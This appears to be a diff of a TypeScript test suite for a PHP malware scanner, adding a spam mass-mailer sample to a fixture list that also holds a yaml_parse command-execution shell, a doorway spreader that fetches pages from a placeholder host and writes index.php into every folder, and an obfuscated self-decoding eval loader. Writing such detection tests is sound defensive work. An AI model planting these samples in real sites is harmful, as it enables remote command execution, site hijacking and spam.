@@ -29,6 +29,7 @@ const MALICIOUS: [string, string, string][] = [
   ['yaml_parse with a tag callback of system set by element (S36A-24)', '/var/www/html/r.php', `<?php\n$cb = array();\n$cb['!run'] = 'system';\nyaml_parse($_POST['doc'], 0, $n, $cb);\n`],
   ['a doorway spreader writing index.php into each folder with what its server sends for this host (S36A-71)', '/var/www/html/s.php', `<?php\n$srv = "http://doorway.example.invalid/tpl/";\n$c = file_get_contents($srv . '?host=' . urlencode($_SERVER['HTTP_HOST']));\nforeach (glob($_SERVER['DOCUMENT_ROOT'] . '/*', GLOB_ONLYDIR) as $d) file_put_contents($d . '/index.php', $c);\n`],
   ['code decoding the base64 kept after its own closing tag, reversed and rot13-ed, then evaluated (held-out set H15)', '/var/www/html/t.php', `<?php\n$p = array(base64_decode("L3gvaQ=="), base64_decode(strrev(str_rot13(explode("?>", file_get_contents(__FILE__))[1]))));\npreg_replace($p[0], serialize(eval($p[1])), 'x');\nexit();\n?>\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 97 + 13) % 256)).toString('base64')}\n`],
+  ['a mass mailer sending through imap_mail to each address of a list the request gives (S36A-43)', '/var/www/html/u.php', `<?php\n$message = stripslashes($_POST['html']);\n$list = explode("\\n", $_POST['emails']);\nforeach ($list as $i => $rcpt) {\n  if (imap_mail($rcpt, $_POST['subject'], $message . date('r'), "From: " . $_POST['from'])) echo 'sent ', $i;\n}\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -61,7 +62,7 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 20));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 21));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
